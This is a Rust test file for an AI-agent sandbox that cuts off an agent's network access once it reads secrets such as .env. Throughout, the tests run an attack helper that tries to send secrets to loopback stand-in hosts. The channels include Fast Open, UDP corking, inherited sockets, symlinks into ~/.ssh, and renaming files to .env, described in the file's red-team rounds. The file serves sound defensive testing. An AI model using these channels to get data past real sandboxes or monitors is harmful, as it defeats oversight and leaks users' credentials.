        &format!("allow connect endpoint tcp \"{ip}\" port 443..444;"),
    );
    let file = write_policy(&f, "sockmode", &policy);
    let o = f.run(&["--policy", &file], &["./attack", "sockmode", ip, "443"]);
    let out = stdout(&o);
    assert!(out.contains("blocking connect: ok=0"), "{}", show(&o));
    assert!(out.contains("blocking: nonblock=0 cloexec=0"), "{}", show(&o));
    assert!(out.contains("nonblocking connect: errno=115"), "{}", show(&o));
    assert!(out.contains("nonblocking: nonblock=1 cloexec=1"), "{}", show(&o));
    assert!(out.contains("nonblocking write: ok=2"), "{}", show(&o));
    assert!(out.contains("refused connect: errno=111"), "{}", show(&o));
    assert_eq!(server.received(), "b\nn\n");
}

#[test]
fn a_socket_shared_by_dup_fork_and_scm_rights_is_revoked_everywhere() {
    let ip = "127.77.0.35";
    let server = Tcp::new(ip, 443);
    let f = with_dotenv("sharedsock");
    let o = netleak(&f, "shared", ip, 443);
    let out = stdout(&o);
    assert!(out.contains("write before: ok=7"), "{}", show(&o));
    assert!(out.contains("recv fd: ok=1"), "{}", show(&o));
    for what in ["write after (dup)", "write after (passed)", "child write after"] {
        assert!(out.contains(&format!("{what}: errno=")), "{what}\n{}", show(&o));
    }
    assert_eq!(server.received(), "before\n");
}

#[test]
fn a_nonblocking_connect_in_flight_during_the_taint_sends_nothing() {
    let ip = "127.77.0.36";
    let server = Tcp::new(ip, 443);
    let f = with_dotenv("nbconnect");
    // The channel: the same non-blocking connect, with no secret read.
    let o = attack(&f, &["netleak", "nonblocking", ip, "443", "ok.txt"]);
    assert!(stdout(&o).contains("write after: ok=7"), "channel\n{}", show(&o));
    assert_eq!(
        server.received(),
        "STOLEN\n",
        "the channel works (no secret was read)"
    );
    let o = netleak(&f, "nonblocking", ip, 443);
    assert!(stdout(&o).contains("connect: errno=115"), "{}", show(&o));
    assert!(stdout(&o).contains("write after: errno="), "{}", show(&o));
    assert_eq!(server.received(), "");
}

#[test]
fn raw_packet_sctp_and_mptcp_sockets_reach_nothing() {
    let ip = "127.77.0.37";
    let udp = Udp::new(ip, 53);
    let tcp = Tcp::new(ip, 53);
    let f = with_dotenv("families");
    let o = netleak(&f, "families", ip, 53);
    let out = stdout(&o);
    for what in ["raw socket", "packet socket", "sctp socket", "mptcp socket"] {
        assert!(
            out.contains(&format!("{what}: ")),
            "{what} not tried\n{}",
            show(&o)
        );
    }
    if !mediated() {
        // Isolated: what the kernel lets the agent make reaches only the sandbox's
        // own loopback (MPTCP finds no listener there).
        assert!(
            !out.contains("mptcp socket: ok=") || out.contains("mptcp connect: errno=111"),
            "{}",
            show(&o)
        );
    }
    let got = udp.received();
    assert!(got.is_empty(), "{got:?}\n{}", show(&o));
    assert_eq!(tcp.received(), "", "{}", show(&o));
}

#[test]
fn a_host_server_on_a_loopback_address_no_endpoint_names_is_not_reached() {
    let ip = "127.77.0.38";
    let server = Tcp::new(ip, 8080);
    let f = Fixture::new("hostloop").with_attack();
    let o = attack(&f, &["tcp", ip, "8080", "hello"]);
    let out = stdout(&o);
    assert!(out.contains("tcp connect: errno="), "{}", show(&o));
    if !mediated() {
        // It stays inside the sandbox, where nothing listens on that port.
        assert!(out.contains("tcp connect: errno=111"), "{}", show(&o));
    }
    assert_eq!(server.received(), "");
}

/// "Connect means talk": the README's first policy allows `connect https` and no
/// `send`; a connection it allows exchanges data (send without an address included).
#[test]
fn the_readmes_first_policy_connects_and_talks() {
    let ip = "127.77.0.39";
    let server = Tcp::new(ip, 443);
    let f = Fixture::new("readme").with_attack();
    let readme = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../README.md")).unwrap();
    let policy = readme
        .split("```claw\n")
        .nth(1)
        .and_then(|s| s.split("```").next())
        .expect("README has a policy");
    // As written (tests/runtime/docs.rs runs it so), but for `exec` in the
    // workspace, where the test's program is.
    let rule = "allow read, write, append, visible workspace;";
    assert!(policy.contains(rule), "{policy}");
    let policy = policy.replace(rule, "allow read, write, append, visible, exec workspace;");
    let file = write_policy(&f, "readme", &policy);
    let o = f.run(&["--policy", &file], &["./attack", "tcp", ip, "443", "hello"]);
    assert!(stdout(&o).contains("tcp send: ok=5"), "{}", show(&o));
    assert_eq!(server.received(), "hello");
}

/// A policy that lets the agent set socket options after the taint, so that it
/// can uncork a frame it corked before: revocation must have dropped the frame.
const UNCORK_POLICY: &str = r#"
use std::groups::*;
use std::paths::{secrets, system_ro};
use std::net::dns;

policy uncork {
    let workspace = path "$WORKSPACE/**";
    default deny(EPERM);
    always {
        allow memory, time, signals, process_basic, process, io, net_sockets;
        allow read, exec system_ro;
        allow read, write, exec workspace;
        allow read, write path "/dev/null";
        allow visible path "/**";
    }
    state clean initial {
        allow connect, send dns;
        on read secrets -> tainted;
    }
    state tainted { }
    assert never connect after read secrets;
}
"#;

#[test]
fn a_frame_corked_before_the_taint_is_dropped_not_sent_when_uncorked_after() {
    let ip = "127.77.0.40";
    let server = Udp::new(ip, 53);
    let f = with_dotenv("uncork");
    let file = write_policy(&f, "uncork", UNCORK_POLICY);
    let o = f.run(
        &["--policy", &file],
        &["./attack", "netleak", "udp-cork", ip, "53", ".env"],
    );
    let out = stdout(&o);
    assert!(out.contains("netleak udp-cork: started"), "{}", show(&o));
    assert!(
        out.contains("cork: ok=0") && out.contains("write corked: ok=7"),
        "{}",
        show(&o)
    );
    assert!(out.contains("open secret: ok="), "{}", show(&o));
    // The policy lets it uncork after the taint: the attack is really tried.
    assert!(out.contains("uncork: ok=0"), "{}", show(&o));
    assert_udp_kept(&server, &o);
}

/// Makes the command's child start with each `(from, to)` of `fds` at `to`
/// (`dup2` between fork and exec): `clawless` inherits the test's sockets there.
fn inherit_at(c: &mut std::process::Command, fds: &[(i32, i32)]) {
    use std::os::unix::process::CommandExt;
    let fds = fds.to_vec();
    // SAFETY: only dup2 (async-signal-safe) between fork and exec.
    unsafe {
        c.pre_exec(move || {
            for &(from, to) in &fds {
                if libc::dup2(from, to) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            Ok(())
        });
    }
}

/// Accepts one connection on `l` and reads what it sends until it closes
/// (or 5 s pass without a byte).
fn read_all(l: &UnixListener) -> String {
    let (mut end, _) = l.accept().unwrap();
    end.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut got = String::new();
    let _ = end.read_to_string(&mut got);
    got
}

/// A unix socket at standard input to a daemon the policy names (allowed before
/// the taint, not after) is revoked like any inherited socket; one at standard
/// error to a peer no rule names is the launcher's channel (journald's stdout
/// stream), left as a pipe there would be: it still takes writes after the
/// taint (the documented limit, docs/threat-model.md).
#[test]
fn a_standard_stream_on_a_socket_to_a_daemon_the_policy_names_is_revoked() {
    use std::os::fd::AsRawFd;
    let f = with_dotenv("stdiodaemon");
    let daemon_path = f.root.join("daemon.sock");
    let policy = UNCORK_POLICY
        .replace("policy uncork", "policy stdiodaemon")
        .replace(
            "allow connect, send dns;",
            &format!(
                "allow connect, send [dns, endpoint unix \"{}\"];",
                daemon_path.display()
            ),
        );
    let file = write_policy(&f, "stdiodaemon", &policy);
    let daemon = UnixListener::bind(&daemon_path).unwrap();
    let journal = UnixListener::bind(f.root.join("journal.sock")).unwrap();
    let u0 = std::os::unix::net::UnixStream::connect(&daemon_path).unwrap();
    let u2 = std::os::unix::net::UnixStream::connect(f.root.join("journal.sock")).unwrap();
    let fds = [(u0.as_raw_fd(), 0), (u2.as_raw_fd(), 2)];
    let mut c = f.command(&["--policy", &file], &["./attack", "inherited", ".env", "0", "2"]);
    inherit_at(&mut c, &fds);
    let o = run_with_deadline(c, Duration::from_secs(60));
    drop((u0, u2));
    let out = stdout(&o);
    assert!(out.contains("write before fd 0: ok=7"), "{}", show(&o));
    assert!(out.contains("open secret: ok="), "{}", show(&o));
    assert!(out.contains("write after fd 0: errno=32"), "{}", show(&o));
    assert_eq!(read_all(&daemon), "before\n", "{}", show(&o));
    // The launcher's channel: written before and after.
    assert!(out.contains("write before fd 2: ok=7"), "{}", show(&o));
    let err = read_all(&journal);
    assert!(err.contains("before\nAFTER:"), "{err:?}\n{}", show(&o));
}

/// Isolated mode: the agent's own server on a loopback address no endpoint names
/// is the sandbox's, and works; a host server on the same address and port is not
/// what it reaches (it hears nothing).
#[test]
fn the_agents_own_loopback_server_stays_inside() {
    let ip = "127.77.0.41";
    let host = Tcp::new(ip, 9000);
    let f = Fixture::new("selfserver").with_attack();
    let policy = UNCORK_POLICY
        .replace("policy uncork", "policy selfserver")
        .replace(
            "allow connect, send dns;",
            "allow net_server;\n        allow bind endpoint tcp \"127.77.0.41\" port 9000;",
        );
    let file = write_policy(&f, "selfserver", &policy);
    let o = f.run(&["--policy", &file], &["./attack", "self-server", ip, "9000"]);
    let out = stdout(&o);
    if mediated() {
        // One loopback, the host's: the port is taken there, and the policy does
        // not allow connecting to it.
        assert!(out.contains("bind: errno="), "{}", show(&o));
    } else {
        assert!(out.contains("bind: ok=0"), "{}", show(&o));
        assert!(out.contains("self-server: got=ping"), "{}", show(&o));
    }
    assert_eq!(host.received(), "", "{}", show(&o));
}

/// Creating through a dangling symlink creates the link's target, as the kernel
/// does, and is decided on that target: links the agent plants itself (absolute,
/// relative, chains, through a directory descriptor, swapped by a racing thread)
/// pointing into `~/.ssh` or `/etc` create nothing there; one pointing into the
/// workspace creates the file (the channel works).
#[test]
fn dangling_symlinks_cannot_create_files_outside_what_the_policy_lets_write() {
    let f = Fixture::new("dangling").with_attack();
    let sdir = f.home.join(".ssh");
    let etc = format!("/etc/claw-planted-{}", std::process::id());
    let log = f.root.join("audit.jsonl");
    let o = f.run(
        &["--audit-log", log.to_str().unwrap()],
        &[
            "./attack",
            "dangling",
            sdir.to_str().unwrap(),
            "../home/.ssh",
            &etc,
            "400",
        ],
    );
    let out = stdout(&o);
    assert_eq!(code(&o), 0, "{}", show(&o));
    assert!(out.contains("dangling: done"), "the attack ran\n{}", show(&o));
    assert!(out.contains("create via workspace link: ok="), "{}", show(&o));
    assert_eq!(
        std::fs::read_to_string(f.ws.join("made.txt")).unwrap(),
        "made\n",
        "the workspace target was created"
    );
    // The kernel's own answers where it does not follow.
    for what in [
        "O_EXCL via existing-target link: errno=17",
        "O_EXCL via dangling link: errno=17",
        "O_NOFOLLOW via dangling link: errno=40",
    ] {
        assert!(out.contains(what), "missing `{what}`\n{}", show(&o));
    }
    for what in [
        "open to_secret",
        "creat to_secret",
        "openat to_secret",
        "open append to_secret",
        "openat2 to_secret",
        "open to_secret_rel",
        "open sub/chain1",
        "openat(dirfd) chain1",
        "open to_etc",
    ] {
        assert!(
            out.contains(&format!("{what}: errno=1 ")),
            "`{what}` must be refused with the policy's EPERM\n{}",
            show(&o)
        );
    }
    let race = out
        .lines()
        .find(|l| l.starts_with("dangling race:"))
        .unwrap_or_else(|| panic!("{}", show(&o)));
    assert!(!race.contains("good=0 "), "the racing creates ran: {race}");
    let planted: Vec<_> = std::fs::read_dir(&sdir)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .filter(|n| n != "id_test")
        .collect();
    assert!(planted.is_empty(), "created in ~/.ssh: {planted:?}");
    assert!(!std::path::Path::new(&etc).exists(), "created {etc}");
    // The audit log shows the decision on the file the call would create.
    let audit = std::fs::read_to_string(&log).unwrap();
    let decided = |path: &str, decision: &str| {
        audit.lines().any(|l| {
            l.contains(&format!("\"path\":\"{path}\"")) && l.contains(&format!("\"decision\":\"{decision}\""))
        })
    };
    assert!(decided(&f.path("made.txt"), "allow"), "{audit}");
    let planted = sdir.join("planted_abs").display().to_string();
    assert!(decided(&planted, "deny(EPERM)"), "{audit}");
    assert!(decided(&etc, "deny(EPERM)"), "{audit}");
}

/// Runs `./attack ARGS` natively (outside the sandbox) in the fixture's workspace:
/// the control that shows a channel the policy refuses really works.
fn native_attack(f: &Fixture, args: &[&str]) -> std::process::Output {
    let mut c = std::process::Command::new(f.ws.join("attack"));
    c.args(args).current_dir(&f.ws);
    run_with_deadline(c, Duration::from_secs(60))
}

/// An implicit connect or send (`attack netgap HOW`), started before the secret
/// is read and finished after it. `refused`: the default policy refuses the call
/// that starts it (then the control is a run outside the sandbox, which must
/// deliver the secret's stand-in); otherwise the pre-taint bytes arrive under the
/// sandbox. Either way nothing of the secret arrives.
fn netgap(how: &str, ip: &str, udp: bool, refused: &str) {
    let port = if udp { 53 } else { 443 };
    let tcp = (!udp).then(|| Tcp::new(ip, port));
    let dgram = udp.then(|| Udp::new(ip, port));
    let received = || match (&tcp, &dgram) {
        (Some(t), _) => t.received(),
        (_, Some(u)) => u.received().join("|"),
        _ => unreachable!(),
    };
    let f = with_dotenv(&format!("gap-{how}"));
    let p = port.to_string();
    // Control: outside the sandbox the channel carries what is written after.
    let o = native_attack(&f, &["netgap", how, ip, &p, "-"]);
    let got = received();
    assert!(
        got.contains("before") && got.contains("TOP-SECRET(control)"),
        "the {how} channel does not work even outside the sandbox: {got:?}\n{}",
        show(&o)
    );
    let o = attack(&f, &["netgap", how, ip, &p, ".env"]);
    let out = stdout(&o);
    assert!(out.contains("open secret: ok="), "{}", show(&o));
    assert!(out.contains(refused), "expected {refused:?}\n{}", show(&o));
    let got = received();
    assert!(
        !got.contains("TOP-SECRET"),
        "{how}: the secret arrived: {got:?}\n{}",
        show(&o)
    );
}

#[test]
fn tcp_fast_open_by_sendto_is_refused() {
    netgap("tfo-sendto", "127.77.2.21", false, "tfo send: errno=95");
}

#[test]
fn tcp_fast_open_by_sendmsg_is_refused() {
    netgap("tfo-sendmsg", "127.77.2.22", false, "tfo send: errno=95");
}

#[test]
fn tcp_fast_open_by_socket_option_is_refused() {
    netgap("tfo-connect", "127.77.2.23", false, "tfo opt: errno=92");
}

#[test]
fn udp_msg_more_on_a_connected_socket_is_refused() {
    netgap("udp-more", "127.77.2.24", true, "pending send: errno=95");
}

#[test]
fn udp_msg_more_on_an_unconnected_socket_is_refused() {
    netgap(
        "udp-more-unconnected",
        "127.77.2.25",
        true,
        "pending send: errno=95",
    );
}

#[test]
fn udp_cork_on_a_connected_socket_is_refused() {
    netgap("udp-cork", "127.77.2.26", true, "cork opt: errno=92");
}

#[test]
fn udp_cork_on_an_unconnected_socket_is_refused() {
    netgap("udp-cork-unconnected", "127.77.2.27", true, "cork opt: errno=92");
}

/// A policy that lets the agent cork and use Fast Open (no standard-library
/// refusal): the monitor's own tracking must still stop the secret.
const PERMISSIVE_NET: &str = r#"
use std::groups::*;
use std::paths::*;
policy permissive_net {
    let workspace = path "$WORKSPACE/**";
    default deny(EPERM);
    always {
        allow memory, time, signals, process_basic, identity, process, io, ipc;
        allow read, visible, exec system_ro;
        allow read, visible proc_info;
        allow visible everything;
        allow read [root, dev_config];
        allow ioctl;
        allow read, write, append, visible devices;
        allow read, write, append, visible, exec workspace;
    }
    state clean initial {
        allow net_sockets;
        allow connect, send [endpoint tcp "127.77.2.0/24" port 443, endpoint udp "127.77.2.0/24" port 53];
        on read path "$WORKSPACE/.env" -> tainted;
    }
    state tainted {
    }
}
"#;

/// [`netgap`] under [`PERMISSIVE_NET`]: the calls are allowed, the pre-taint
/// bytes arrive, and revocation keeps what is written after from arriving.
fn netgap_monitored(how: &str, ip: &str, udp: bool) {
    let port = if udp { 53 } else { 443 };
    let tcp = (!udp).then(|| Tcp::new(ip, port));
    let dgram = udp.then(|| Udp::new(ip, port));
    let f = with_dotenv(&format!("gapm-{how}"));
    let pol = write_policy(&f, "net", PERMISSIVE_NET);
    let p = port.to_string();
    let o = f.run(&["--policy", &pol], &["./attack", "netgap", how, ip, &p, ".env"]);
    let out = stdout(&o);
    assert!(out.contains("open secret: ok="), "{}", show(&o));
    assert!(
        !out.contains("send: errno") || out.contains("tfo send: ok="),
        "{}",
        show(&o)
    );
    let got = match (&tcp, &dgram) {
        (Some(t), _) => t.received(),
        (_, Some(u)) => u.received().join("|"),
        _ => unreachable!(),
    };
    assert!(
        got.contains("before"),
        "{how}: the channel did not work before the taint: {got:?}\n{}",
        show(&o)
    );
    assert!(
        !got.contains("TOP-SECRET"),
        "{how}: the secret arrived: {got:?}\n{}",
        show(&o)
    );
}

#[test]
fn tcp_fast_open_allowed_by_a_policy_is_still_revoked() {
    netgap_monitored("tfo-sendto", "127.77.2.31", false);
    netgap_monitored("tfo-sendmsg", "127.77.2.32", false);
    netgap_monitored("tfo-connect", "127.77.2.33", false);
}

#[test]
fn udp_corking_allowed_by_a_policy_is_still_revoked() {
    netgap_monitored("udp-more", "127.77.2.34", true);
    netgap_monitored("udp-more-unconnected", "127.77.2.35", true);
    netgap_monitored("udp-cork", "127.77.2.36", true);
    netgap_monitored("udp-cork-unconnected", "127.77.2.37", true);
}

#[test]
fn sockets_no_endpoint_rule_describes_are_refused() {
    let f = Fixture::new("socket-kinds").with_attack();
    // Control: as root outside the sandbox these sockets can be made.
    let native = stdout(&native_attack(&f, &["socket-kinds"]));
    for kind in [
        "socket packet: ok=",
        "socket inet raw: ok=",
        "socket inet6 raw: ok=",
    ] {
        assert!(
            native.contains(kind),
            "control: {kind} not made natively\n{native}"
        );
    }
    let o = attack(&f, &["socket-kinds"]);
    let out = stdout(&o);
    for line in out.lines() {
        let allowed = ["inet tcp:", "inet udp:", "inet6 tcp:", "unix:", "netlink:"]
            .iter()
            .any(|k| line.contains(&format!("socket {k}")));
        if allowed {
            assert!(line.contains(": ok="), "{line}\n{}", show(&o));
        } else {
            assert!(line.contains(": errno="), "{line} must be refused\n{}", show(&o));
        }
    }
    assert_eq!(out.lines().count(), 21, "{}", show(&o));
}

/// `clawless` started with connected sockets at descriptors 0 and 3 (the test's
/// own): both are revoked when the secret is read; one to an endpoint the policy
/// never allows (at 4) is shut down before the command starts.
#[test]
fn inherited_sockets_are_revoked() {
    use std::os::fd::AsRawFd;
    let ip = "127.77.2.41";
    let allowed = Tcp::new(ip, 443);
    let never = Tcp::new(ip, 8443);
    let f = with_dotenv("inherited");
    let a0 = std::net::TcpStream::connect((ip, 443)).unwrap();
    let a3 = std::net::TcpStream::connect((ip, 443)).unwrap();
    let n4 = std::net::TcpStream::connect((ip, 8443)).unwrap();
    // A host daemon's unix socket at 5 (never allowed: shut at start), and one at
    // 2 (standard error: the launcher's channel, left as a pipe would be).
    let daemon = UnixListener::bind(f.root.join("daemon.sock")).unwrap();
    let u5 = std::os::unix::net::UnixStream::connect(f.root.join("daemon.sock")).unwrap();
    let u2 = std::os::unix::net::UnixStream::connect(f.root.join("daemon.sock")).unwrap();
    let fds = [
        (a0.as_raw_fd(), 0),
        (a3.as_raw_fd(), 3),
        (n4.as_raw_fd(), 4),
        (u5.as_raw_fd(), 5),
        (u2.as_raw_fd(), 2),
    ];
    let mut c = f.command(&[], &["./attack", "inherited", ".env", "0", "3", "4", "5"]);
    inherit_at(&mut c, &fds);
    let o = run_with_deadline(c, Duration::from_secs(60));
    drop((a0, a3, n4, u5, u2));
    let out = stdout(&o);
    assert!(out.contains("write before fd 5: errno=32"), "{}", show(&o));
    // Nothing reached the daemon at 5; what clawless wrote to standard error did.
    let read_logged = |what: &str| {
        let got = read_all(&daemon);
        eprintln!("{what}: {got:?}");
        got
    };
    assert_eq!(read_logged("at 5"), "");
    let err = read_logged("standard error");
    assert!(
        err.contains("inherited socket to tcp 127.77.2.41:8443 shut down"),
        "{err:?}"
    );
    assert!(out.contains("write before fd 0: ok=7"), "{}", show(&o));
    assert!(out.contains("write before fd 3: ok=7"), "{}", show(&o));
    assert!(out.contains("write before fd 4: errno=32"), "{}", show(&o));
    assert!(out.contains("open secret: ok="), "{}", show(&o));
    assert!(out.contains("write after fd 0: errno=32"), "{}", show(&o));
    assert!(out.contains("write after fd 3: errno=32"), "{}", show(&o));
    assert_eq!(allowed.received(), "before\nbefore\n");
    assert_eq!(never.received(), "");
}

/// Isolated files: a `.env` the agent itself creates during the session (by
/// `O_CREAT`, by renaming or linking an ordinary file to it) is a secret at once:
/// a later read of it, by another process, taints before that process gets a
/// byte. (In mediated mode the monitor decides every open anyway.)
#[test]
fn a_secret_the_agent_creates_during_the_session_taints_when_read() {
    for (i, (make, read)) in [
        ("echo API_TOKEN=NEW > .env", ".env"),
        ("mv ok.txt .env", ".env"),
        ("ln ok.txt .env", ".env"),
        ("mkdir -p sub && echo T=1 > sub/.env", "sub/.env"),
    ]
    .iter()
    .enumerate()
    {
        let ip = format!("127.77.15.{}", i + 1);
        let server = Tcp::new(&ip, 443);
        let f = Fixture::new(&format!("created-{i}")).with_attack();
        let o = f.sh(&format!(
            "./attack tcp {ip} 443 before && {make} && echo made && cat {read} >/dev/null && echo read && ./attack tcp {ip} 443 STOLEN"
        ));
        let out = stdout(&o);
        assert!(
            out.contains("made") && out.contains("read"),
            "{make}: the attack did not run\n{}",
            show(&o)
        );
        assert!(
            out.contains("tcp send: ok="),
            "{make}: the channel works before\n{}",
            show(&o)
        );
        assert!(
            out.contains("socket: errno=1"),
            "{make}: not tainted\n{}",
            show(&o)
        );
        assert_eq!(server.received(), "before", "{make}: the secret left the sandbox");
    }
}

/// Isolated files: a `.env` that a process *outside* the sandbox creates in the
/// workspace during the session is covered by the watcher: read by the agent a
/// moment later, it taints. The window is measured from the moment the file exists
/// to the moment its tripwire is armed (fanotify's marks in `clawless`'s fdinfo).
/// Red team (round 3): an object given a secret's name is that secret to whoever
/// holds it open. The agent makes `scaffold.tmp` for reading, names it `.env`
/// (rename, link, exchange, a symlink), keeps the descriptor; the user writes a key into `.env` in place; the
/// agent reads it through the old descriptor. Naming it was reading it: tainted.
#[test]
fn an_object_given_a_secret_name_is_read_by_the_naming() {
    for (k, (how, name)) in [
        ("rename", ".env"),
        ("rename", ".env.local"),
        ("link", ".env"),
        ("exchange", ".env"),
        ("symlink", ".env"),
    ]
    .into_iter()
    .enumerate()
    {
        let f = Fixture::new(&format!("scaffold-{k}")).with_attack();
        scaffold_naming_taints(&f, &format!("127.77.15.{}", 30 + k), how, name, name);
    }
}

/// `attack scaffold HOW NAME`: the agent proves its channel, makes
/// `scaffold.tmp`, keeps it open and names it NAME (HOW); the user writes a key
/// into `written` (NAME, or a link leading there); the agent reads it through its
/// old descriptor and tries to send it. The naming must have tainted.
fn scaffold_naming_taints(f: &Fixture, ip: &str, how: &str, name: &str, written: &str) {
    let server = Tcp::new(ip, 443);
    let child = spawn_piped(f.command(&[], &["./attack", "scaffold", how, name, ip, "443"]));
    let start = std::time::Instant::now();
    let got = server.wait_for("before", Duration::from_secs(60));
    assert_eq!(got, "before", "{how}: the channel did not work before the naming");
    // Within the same minute.
    wait_for_file(
        &f.ws.join("named"),
        Duration::from_secs(60).saturating_sub(start.elapsed()),
    );
    std::fs::write(f.ws.join(written), "API_KEY=FILLED-IN-BY-THE-USER\n").unwrap();
    let o = go_and_wait(f, child);
    let out = stdout(&o);
    assert!(out.contains("scaffold naming: ok"), "{how}\n{}", show(&o));
    assert!(
        out.contains("read through the old descriptor: 30"),
        "{how}: the attack did not read the key\n{}",
        show(&o)
    );
    assert!(
        out.contains("after connect: errno="),
        "{how}: not tainted\n{}",
        show(&o)
    );
    assert_eq!(server.received(), "", "{how}: the key left the sandbox");
}

#[test]
fn a_secret_created_outside_during_the_session_taints_when_read() {
    let ip = "127.77.15.20";
    let server = Tcp::new(ip, 443);
    let f = Fixture::new("created-outside").with_attack();
    let script = format!(
        "./attack tcp {ip} 443 before; echo started; while [ ! -e go ]; do sleep 0.01; done; cat .env >/dev/null && echo read; ./attack tcp {ip} 443 STOLEN"
    );
    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
    let pid = child.id();
    // Wait until the sandbox runs (its first send arrived).
    let got = server.wait_for("before", Duration::from_secs(60));
    assert_eq!(got, "before", "the sandbox did not start");
    std::fs::write(f.ws.join(".env"), "API_TOKEN=OUTSIDE\n").unwrap();
    let made = std::time::Instant::now();
    if kernel_opens() {
        use std::os::unix::fs::MetadataExt;
        let ino = std::fs::metadata(f.ws.join(".env")).unwrap().ino();
        wait_until(
            Duration::from_secs(5).saturating_sub(made.elapsed()),
            Duration::from_micros(200),
            || fanotify_marks(pid, ino),
        );
        let window = made.elapsed();
        eprintln!("tripwire armed {window:?} after the file was created outside");
        assert!(window < Duration::from_secs(1), "the watcher took {window:?}");
    }
    let o = go_and_wait(&f, child);
    let out = stdout(&o);
    assert!(out.contains("read"), "the read did not happen\n{}", show(&o));
    assert!(out.contains("socket: errno=1"), "not tainted\n{}", show(&o));
    assert_eq!(server.received(), "", "the secret left the sandbox");
}

/// Isolated mode says once who decides opens: the kernel (isolated files, opt-in) or the monitor.
#[test]
fn isolated_mode_says_who_decides_opens() {
    let f = Fixture::new("iso-banner").with_attack();
    std::fs::write(f.ws.join(".env"), "A=1\n").unwrap();
    let o = f.sh("cat ok.txt");
    assert_eq!(code(&o), 0, "{}", show(&o));
    let err = stderr(&o);
    if mediated() {
        assert!(err.contains("mediated mode"), "{}", show(&o));
    } else if kernel_opens() {
        assert!(err.contains("the kernel decides opens"), "{}", show(&o));
        assert_eq!(err.matches("clawless: isolated mode").count(), 1, "{}", show(&o));
    } else {
        assert!(
            err.contains(
                "opens are mediated: kernel-decided opens are experimental (CLAWLESS_KERNEL_OPENS=1)"
            ),
            "{}",
            show(&o)
        );
        assert_eq!(err.matches("clawless: isolated mode").count(), 1, "{}", show(&o));
    }
}

// ---- isolated files: red-team round 3 (tests/runtime/redteam/isolated-files) ----
// Each runs in every mode (the leak must not happen in any); where the kernel
// decides opens (CLAWLESS_KERNEL_OPENS=1, isolated, root) it also checks that the
// run really used kernel-decided opens, so the tripwires are what stopped it.

/// `./attack tcp IP 443 PRE-TAINT-CHANNEL-OK` (the channel works), then
/// `./attack isoleak HOW PATH IP 443` (open, read, send) in the sandbox. Asserts
/// the channel worked, the read happened, and nothing read left; returns the run.
fn leak_attempt(f: &Fixture, ip: &str, how: &str, path: &str, env: &[(&str, &str)]) -> std::process::Output {
    let server = Tcp::new(ip, 443);
    let script =
        format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack isoleak {how} \"{path}\" {ip} 443");
    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
    cmd.env_remove("XDG_CACHE_HOME");
    for (k, v) in env {
        cmd.env(k, v);
    }
    let o = run_with_deadline(cmd, Duration::from_secs(180));
    let got = server.received();
    let out = stdout(&o);
    assert!(
        got.starts_with("PRE-TAINT-CHANNEL-OK"),
        "the channel did not work: {got:?}\n{}",
        show(&o)
    );
    assert!(
        out.contains("isoleak read: ")
            && !out.contains("isoleak read: -1")
            && !out.contains("isoleak read: 0"),
        "the secret was not read (the attack did not run)\n{}",
        show(&o)
    );
    assert!(
        !got.contains("LEAK:"),
        "the secret left the sandbox: {got:?}\n{}",
        show(&o)
    );
    assert!(
        out.contains("socket: errno=") || out.contains("isoleak connect: errno="),
        "not tainted\n{}",
        show(&o)
    );
    o
}

/// Tells the agent of `child` to go on (its script waits for the file `go` in
/// the workspace) and waits for the run to end (at most 120 s).
fn go_and_wait(f: &Fixture, child: std::process::Child) -> std::process::Output {
    std::fs::write(f.ws.join("go"), "").unwrap();
    wait_with_deadline(child, Duration::from_secs(120))
}

/// Writes `bytes` at the start of the file at `path` without truncating it or
/// making a new one: the user's tool writing a secret into a file in place (the
/// inode the agent holds, or one a link leads to, stays the same).
fn write_in_place(path: &std::path::Path, bytes: &[u8]) {
    use std::os::unix::fs::FileExt;
    let w = std::fs::OpenOptions::new()
        .write(true)
        .open(path)
        .unwrap_or_else(|e| panic!("opening {} to write in place: {e}", path.display()));
    w.write_all_at(bytes, 0).unwrap();
}

fn kernel_decided(o: &std::process::Output) {
    if kernel_opens() {
        assert!(stderr(o).contains("the kernel decides opens"), "{}", show(o));
    }
}

/// The verdict of an attack on a secret that appears during the session (the
/// agent holds or reads it after an outside change): the agent got ready
/// (`held`), its channel worked before (`got`, what the listener received, starts
/// with the pre-taint send), it did read (`read` is in its output), and nothing
/// of the secret left: its connect (or socket) after the read was refused.
fn assert_read_but_tainted(o: &std::process::Output, got: &str, held: bool, read: &str, what: &str) {
    let out = stdout(o);
    assert!(held, "{what}: the agent never got ready\n{}", show(o));
    assert!(
        got.starts_with("PRE-TAINT-CHANNEL-OK"),
        "{what}: the channel did not work: {got:?}\n{}",
        show(o)
    );
    assert!(
        out.contains(read),
        "{what}: the attack did not read ({read:?})\n{}",
        show(o)
    );
    assert!(
        !got.contains("LEAK:"),
        "{what}: the secret left the sandbox: {got:?}\n{}",
        show(o)
    );
    assert!(
        out.contains("connect: errno=") || out.contains("socket: errno="),
        "{what}: not tainted\n{}",
        show(o)
    );
    kernel_decided(o);
}

/// Unmounts on drop.
struct Mounted(std::ffi::CString);

impl Mounted {
    fn tmpfs(at: &std::path::Path) -> Mounted {
        use std::os::unix::ffi::OsStrExt;
        std::fs::create_dir_all(at).unwrap();
        let c = std::ffi::CString::new(at.as_os_str().as_bytes()).unwrap();
        // SAFETY: valid C strings.
        let r = unsafe {
            libc::mount(
                c"none".as_ptr(),
                c.as_ptr(),
                c"tmpfs".as_ptr(),
                0,
                std::ptr::null(),
            )
        };
        assert_eq!(
            r,
            0,
            "mounting a tmpfs at {}: {}",
            at.display(),
            std::io::Error::last_os_error()
        );
        Mounted(c)
    }
}

impl Drop for Mounted {
    fn drop(&mut self) {
        // SAFETY: valid C string.
        unsafe { libc::umount2(self.0.as_ptr(), libc::MNT_DETACH) };
    }
}

/// submount-never-walked: a secret on another file system mounted below the
/// workspace is a tripwire (discovery crosses mounts).
#[test]
fn isolated_files_a_secret_on_a_submount_taints() {
    let f = Fixture::new("iso-submount").with_attack();
    let _m = Mounted::tmpfs(&f.ws.join("vol"));
    std::fs::write(f.ws.join("vol/.env"), "SECRET5-submount-77\n").unwrap();
    let o = leak_attempt(&f, "127.77.16.1", "plain", "vol/.env", &[]);
    kernel_decided(&o);
}

